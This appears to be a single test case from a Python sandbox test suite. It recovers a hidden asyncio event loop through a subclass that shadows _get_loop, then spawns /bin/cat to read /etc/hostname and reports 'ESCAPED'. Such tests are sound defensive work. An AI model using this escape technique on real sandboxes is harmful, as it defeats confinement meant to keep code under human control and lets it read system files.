"""No app reaches the event loop that it runs on by a name it also defines itself."""

CLASS = "privates"
BOUNDARY = "both"
NEEDS = ("asyncio",)


import asyncio


class Mine(asyncio.Event):
    _get_loop = None

    def steal(self):
        return super()._get_loop()


def attack():
    async def main():
        loop = Mine().steal()
        transport, protocol = await loop.subprocess_exec(Reader, "/bin/cat", "/etc/hostname")
        return await protocol.said

    return "ESCAPED: " + asyncio.run(main())


class Reader(getattr(asyncio, "SubprocessProtocol", object)):
    def connection_made(self, transport):
        self.said = asyncio.get_running_loop().create_future()

    def pipe_data_received(self, fd, data):
        self.said.set_result(data.decode())

    def process_exited(self):
        pass

    def connection_lost(self, error):
        pass

    def pipe_connection_lost(self, fd, error):
        pass
